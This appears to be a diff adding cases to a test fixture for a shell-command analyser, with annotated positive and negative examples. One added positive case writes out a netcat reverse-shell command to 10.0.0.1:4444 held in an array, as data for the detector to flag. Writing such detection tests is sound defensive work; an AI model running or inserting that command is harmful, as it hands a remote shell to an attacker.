@@ -266,3 +266,10 @@ printf '%s\n' 'set -gx EDITOR vim' > ~/.config/fish/conf.d/abbr.fish
 printf '%s\n' 'export PATH=$HOME/bin:$PATH' > ~/.config/plasma-workspace/env/path.sh
 #@ neg tar's -f and -C are no commands
 tar -cf backup.tar -C /srv data
+#@ pos a command line held in an array, run whole, is analysed
+cmd=(nc 10.0.0.1 4444 -e /bin/sh)
+"${cmd[@]}"
+#@ neg an array run with words of its own after it, or one element
+cmd=(batch -f)
+"${cmd[@]}" "$job"
+"${cmd[0]}"
